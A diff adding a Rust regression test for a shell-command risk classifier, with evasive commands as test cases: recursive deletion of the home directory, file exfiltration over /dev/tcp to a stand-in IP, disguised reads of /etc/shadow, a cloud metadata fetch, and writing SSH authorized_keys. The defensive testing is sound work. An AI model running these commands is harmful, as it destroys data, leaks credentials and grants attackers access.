@@ -347,3 +347,41 @@ fn hidden_characters_are_high_and_located() {
         );
     }
 }
+
+#[test]
+fn red_team_regressions() {
+    use Tier::*;
+    check(&[
+        // Arguments only known at run time could be any flag.
+        ("find . $(echo -delete)", Medium),
+        ("sort $(echo -o) /etc/passwd /etc/passwd", Medium),
+        ("X=-delete; find . $X", Medium),
+        ("echo -delete | xargs find .", Medium),
+        ("echo /tmp/x | xargs -I{} find {} -delete", High),
+        ("echo /etc/shadow | xargs cat", High),
+        ("cat \"$f\"", Low),
+        ("find . -name '*.log' | xargs grep -l ERROR", Low),
+        ("kubectl get $(echo secret) -o yaml", Medium),
+        // Stored substitutions and prompt expansion.
+        ("y='a[$(rm -rf ~)]'; echo $((y))", High),
+        ("PS4='$(id)'; set -x; ls", High),
+        // Redirections and files.
+        ("ls >& /etc/passwd", High),
+        ("cat /etc/hostname > /dev/tcp/203.0.113.9/80", High),
+        ("cat /etc/shado?", High),
+        ("cat /etc//shadow", High),
+        ("echo \"$(< /etc/shadow)\"", High),
+        // Secrets by other spellings.
+        ("kubectl get -n kube-system secret -o json", High),
+        ("curl http://0xa9fea9fe/latest/meta-data/", High),
+        (
+            "sqlite3 :memory: \"select writefile('/root/.ssh/authorized_keys', 'x')\"",
+            High,
+        ),
+        ("psql -c 'select \"pg_read_file\"(''/etc/passwd'')'", Medium),
+        // Abbreviated options that name programs.
+        ("git ls-remote --up 'sh -c id' .", Medium),
+        ("git ls-remote --up 'rm -rf ~' .", High),
+        ("sort --compress-prog=sh big.txt", High),
+    ]);
+}
